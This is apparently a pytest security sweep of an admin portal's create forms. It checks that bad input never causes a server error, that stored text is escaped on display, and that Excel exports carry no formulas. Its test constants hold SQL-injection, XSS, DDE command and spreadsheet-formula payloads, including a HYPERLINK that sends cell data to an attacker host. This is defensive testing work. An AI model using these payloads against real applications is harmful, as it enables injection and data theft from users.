"""Bad-input sweep: every register's create form given empty, oversized, wrong-type, SQL-like,
script-tag and formula-like values. Never a 500; what is saved is stored as the text typed and
shown escaped; formula-like text stays text in the Excel export."""
import datetime
import io

import openpyxl
import pytest
from peewee import (BooleanField, CharField, DateField, DateTimeField, DecimalField, FloatField,
                    ForeignKeyField, IntegerField, TextField)

from load.forms import form_of
from models.base import Register, all_registers

SQL_LIKE = "x'); DROP TABLE unit; -- \" OR '1'='1"
SCRIPT_TAG = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
FORMULA_2 = '@SUM(1+1)*cmd|\' /C calc\'!A0'
HOSTILE = {'sql': SQL_LIKE, 'script': SCRIPT_TAG, 'formula': FORMULA, 'formula2': FORMULA_2}
OVERSIZED = 'A' * (10 * 1024 * 1024)
RAW_MARKUP = ('<script>alert', '<img src=x onerror')

REGISTERS = sorted(m._meta.table_name for m in all_registers())


def model_of(table):
    return next(m for m in all_registers() if m._meta.table_name == table)


def plausible_text(name):
    """A value the register's own format rules accept, for the fields not under test."""
    if 'phone' in name:
        return '13800138000'
    if 'id_number' in name:
        return '33010619900101123X'
    if name.endswith('_no') or name == 'code':
        return 'BAD-%s' % name[:6]
    return '测试'


class Sweep:
    """Builds form posts for one register from its create page and its model."""

    def __init__(self, client, model, make, projects):
        self.client, self.model, self.table = client, model, model._meta.table_name
        self.url = '/admin/%s/new/' % self.table
        self.make, self.projects = make, projects
        self.page = client.get(self.url)
        self.fields = form_of(self.page.get_data(as_text=True)) if self.page.status_code == 200 else []
        self.targets = {}

    def model_field(self, name):
        return self.model._meta.fields.get(name)

    def text_fields(self):
        return [f.name for f in self.fields
                if isinstance(self.model_field(f.name), (CharField, TextField))
                and not self.model_field(f.name).choices and f.tag in ('input', 'textarea')
                and f.kind not in ('hidden', 'file')]

    def target_row(self, fld):
        """An existing row of the FK's target in the user's project (made when needed)."""
        target = fld.rel_model
        name = target._meta.table_name
        if name not in self.targets:
            mine = self.projects['mine']
            maker = {'unit': lambda: self.make.unit(mine), 'owner': lambda: self.make.owner(mine),
                     'contract': lambda: self.make.contract(mine),
                     'department': self.make.department, 'contractor': self.make.contractor,
                     'project': lambda: mine}.get(name)
            if maker is not None:
                self.targets[name] = maker().id
            else:
                query = target.select()
                if 'project' in target._meta.fields:
                    query = query.where(target.project == mine.id)
                row = query.first()
                self.targets[name] = row.id if row else None
        return self.targets[name]

    def valid_value(self, f):
        fld = self.model_field(f.name)
        if f.name in ('csrf_token', 'row_version') or fld is None:
            return f.value
        if isinstance(fld, ForeignKeyField):
            pk = self.target_row(fld)
            return '' if pk is None else str(pk)
        if fld.choices:
            values = [o[0] for o in f.options if o[0] not in ('', '__None')]
            return values[0] if values else ''
        if isinstance(fld, BooleanField):
            return None
        if isinstance(fld, DateTimeField):
            return datetime.datetime.now().strftime('%Y-%m-%d %H:%M:%S')
        if isinstance(fld, DateField):
            return datetime.date.today().isoformat()
        if isinstance(fld, IntegerField):
            return '1'
        if isinstance(fld, (DecimalField, FloatField)):
            return '1.50'
        return plausible_text(f.name)

    def wrong_value(self, f):
        fld = self.model_field(f.name)
        if isinstance(fld, ForeignKeyField):
            return '1 OR 1=1' if f.kind == 'hidden' else '999999'
        if fld is not None and fld.choices:
            return '不在选项里'
        if isinstance(fld, DateTimeField):
            return '2026-13-45 25:61'
        if isinstance(fld, DateField):
            return '2026-02-30'
        if isinstance(fld, IntegerField):
            return '12abc'
        if isinstance(fld, (DecimalField, FloatField)):
            return '1,5e999元'
        return None

    def form(self, text=None, only=None, kind='valid'):
        """Values for every field: valid ones, `text` in the text fields (or only in `only`),
        or wrong-typed values in every non-text field (kind='wrong')."""
        data = {}
        texts = set(self.text_fields())
        for f in self.fields:
            if f.kind == 'file':
                continue
            value = self.valid_value(f)
            if f.name in texts and text is not None and (only is None or f.name in only):
                fld = self.model_field(f.name)
                limit = getattr(fld, 'max_length', None) if isinstance(fld, CharField) else None
                value = text[:limit] if limit and text is not OVERSIZED else text
            if kind == 'wrong' and f.name not in texts:
                wrong = self.wrong_value(f)
                value = wrong if wrong is not None else value
            if value is not None:
                data[f.name] = value
        return data

    def post(self, data):
        return self.client.post_form(self.url, data)

    def newest(self):
        return self.model.select().order_by(self.model.id.desc()).first()


@pytest.fixture(scope='module')
def portal(_app_once, tmp_path_factory):
    """One portal and database for the whole sweep: a fresh database for each of the registers
    would cost minutes, and rows made for one register serve the next as pick targets."""
    import conftest
    from models.base import db
    from seeds import create_user
    app, template = _app_once
    saved = dict(app.config)
    saved_instance = app.instance_path
    folder = tmp_path_factory.mktemp('sweep')
    conftest.fresh_database(app, template, folder)
    make = conftest.Factory(app)
    projects = {'mine': make.project(name='云栖雅苑', code='MINE'),
                'other': make.project(name='滨湖印象', code='OTHER')}
    with app.app_context():
        create_user('admin', 'admin', 'admin', conftest.PASSWORD, [])
    client = app.test_client()
    assert conftest.login(client, 'admin').status_code == 302
    yield conftest.Portal(client, 'admin'), make, projects
    if not db.is_closed():
        db.close()
    app.config.clear()
    app.config.update(saved)
    app.instance_path = saved_instance


@pytest.fixture
def sweep(portal):
    admin, make, projects = portal
    return lambda table: Sweep(admin, model_of(table), make, projects)


def assert_no_server_error(response, what):
    assert response.status_code < 500, '%s: %d' % (what, response.status_code)
    if not response.mimetype.startswith('text/'):
        return
    body = response.get_data(as_text=True)
    assert 'Traceback' not in body and '服务器内部错误' not in body, what


@pytest.mark.parametrize('table', REGISTERS)
def test_empty_wrong_typed_and_oversized_input_is_refused_without_a_server_error(sweep, table):
    s = sweep(table)
    if s.page.status_code != 200:
        assert s.page.status_code in (403, 404), table      # a register admins do not create
        return
    before = s.model.select().count()

    empty = {f.name: '' for f in s.fields if f.kind != 'file'}
    empty['csrf_token'] = s.client.csrf()
    response = s.post(empty)
    assert_no_server_error(response, table + ' empty')
    if any(f.required for f in s.fields):
        assert s.model.select().count() == before, 'an empty %s was saved' % table

    response = s.post(s.form(kind='wrong'))
    assert_no_server_error(response, table + ' wrong types')
    if any(s.wrong_value(f) is not None for f in s.fields):
        assert response.status_code == 200
        assert s.model.select().count() == before, 'wrong-typed %s saved' % table

    texts = s.text_fields()
    chars = [n for n in texts if isinstance(s.model_field(n), CharField)]
    if not texts:
        return
    # 10 MB in one field (a short one when there is one: refused with a message, nothing kept)
    target = (chars or texts)[:1]
    before = s.model.select().count()
    response = s.post(s.form(text=OVERSIZED, only=target))
    assert_no_server_error(response, table + ' 10 MB')
    if response.status_code == 413:
        assert '过大' in response.get_data(as_text=True)
    elif chars:
        assert response.status_code == 200
        assert '不能超过' in response.get_data(as_text=True)
        assert s.model.select().count() == before


@pytest.mark.parametrize('table', REGISTERS)
def test_hostile_text_is_stored_as_typed_shown_escaped_and_exported_as_text(sweep, table):
    s = sweep(table)
    if s.page.status_code != 200 or not s.text_fields():
        return
    free = [n for n in s.text_fields() if isinstance(s.model_field(n), TextField)]
    for name, text in HOSTILE.items():
        before = s.newest()
        sent = s.form(text=text)
        response = s.post(sent)
        assert_no_server_error(response, '%s/%s' % (table, name))
        if response.status_code != 302 and free:
            # a format rule refused a field (a phone, a code): the text in free-text fields only
            sent = s.form(text=text, only=free)
            response = s.post(sent)
            assert_no_server_error(response, '%s/%s' % (table, name))
        row = s.newest()
        if response.status_code != 302 or row is None or (before and row.id == before.id):
            continue
        SAVED.add(table)
        for field in s.text_fields():
            if field in sent and sent[field] not in ('', None):
                assert row.__data__.get(field) == sent[field], (table, field)
        for path in ('/admin/%s/details/?id=%d' % (table, row.id), '/admin/%s/' % table):
            page = s.client.get(path)
            assert_no_server_error(page, path)
            html = page.get_data(as_text=True)
            for raw in RAW_MARKUP:
                assert raw not in html, (path, raw)
            if name == 'script' and 'details' in path:
                assert '&lt;script&gt;' in html or '&lt;img' in html, table
    export = s.client.get('/admin/%s/export/xlsx/' % table)
    assert_no_server_error(export, table + ' export')
    if export.status_code == 200:
        book = openpyxl.load_workbook(io.BytesIO(export.data))
        for sheet in book.worksheets:
            for cells in sheet.iter_rows():
                for cell in cells:
                    assert cell.data_type != 'f', (table, cell.coordinate, cell.value)


SAVED = set()


def test_the_sweep_covers_every_register():
    assert len(REGISTERS) >= 10 and 'unit' in REGISTERS and 'owner' in REGISTERS


def test_hostile_text_was_saved_in_the_core_registers():
    """Runs after the sweep (same module): the checks above did not pass by saving nothing."""
    if not SAVED:
        pytest.skip('run with the sweep')
    assert {'unit', 'owner', 'department', 'contractor'} <= SAVED, sorted(SAVED)


def test_ten_megabytes_of_free_text_are_refused_with_a_message(sweep):
    """A 10 MB remark is no one's typing: refused with a message instead of being stored (and
    indexed for search, which holds the write lock for minutes on searched registers)."""
    s = sweep('unit')
    before = s.model.select().count()
    response = s.post(s.form(text=OVERSIZED, only=['remarks']))
    assert response.status_code == 200
    assert '不能超过' in response.get_data(as_text=True)
    assert s.model.select().count() == before
